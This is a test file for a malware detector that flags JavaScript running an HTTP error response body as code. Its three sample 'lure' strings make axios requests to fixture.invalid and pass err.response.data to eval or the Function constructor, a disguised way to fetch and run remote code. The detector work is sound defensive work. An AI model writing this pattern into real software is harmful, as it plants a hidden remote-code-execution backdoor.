import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './error-body-to-code.ts';

describe('error-body-to-code', () => {
  it('T29: eval in a catch', async () => {
    const lures = [
      `const axios = require('axios'); axios.get('https://fixture.invalid/ipcheck').then(r => r.data).catch(err => { eval(err.response.data); });`,
      `import axios from 'axios'; async function f() { try { const r = await axios.post('https://fixture.invalid/x', {}); return r.data } catch (error) { new (Function.constructor)('require', error.response.data)(require); } } f();`,
      `const axios = require('axios'); const call = () => axios.get('https://fixture.invalid/x'); (async () => { try { await call(); } catch ({ response }) { eval(response.data.message) } })();`,
    ];
    for (const lure of lures)
      expect(
        (await hitsOf(detector, { 'a.js': lure })).map((hit) => hit.weight),
        lure,
      ).toEqual(['proof']);
  });

  it('twin: error handlers that print', async () => {
    const code = `const axios = require('axios'); axios.get('https://fixture.invalid/x').catch(err => { console.log(err.response.data); throw new Error(err.message) }); eval('1');`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
